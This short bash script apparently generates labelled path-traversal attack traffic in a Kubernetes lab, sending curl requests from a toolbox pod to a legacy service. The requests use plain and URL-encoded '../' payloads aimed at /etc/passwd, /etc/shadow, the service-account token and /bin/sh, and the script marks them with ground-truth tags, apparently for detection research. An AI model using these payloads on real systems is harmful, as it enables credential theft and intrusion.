#!/usr/bin/env bash
# Exploitation: directory traversal in the path and in a parameter, plain and encoded.
set -euo pipefail
source "$LAB_DIR/lib.sh"
T=$(lab_pod_ip legacy); lab_assert_target "$T"
ns=$(lab_pod_ns toolbox)
gt_begin path-traversal exploitation curl pod:toolbox pod:legacy '../ sequences for /etc/passwd, /etc/shadow and the service-account token'
for u in '/static/../../../../etc/passwd' '/download?file=../../../../etc/shadow' \
         '/download?file=..%2f..%2f..%2f..%2fvar%2frun%2fsecrets%2fkubernetes.io%2fserviceaccount%2ftoken' \
         '/%2e%2e/%2e%2e/%2e%2e/etc/passwd' '/download?file=....//....//....//etc/hosts' '/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh'; do
  lab_exec "$ns" timeout 10 curl -s -o /dev/null --max-time 3 --path-as-is "http://$T:8080$u" || true
done
gt_end '{"dport":8080}'
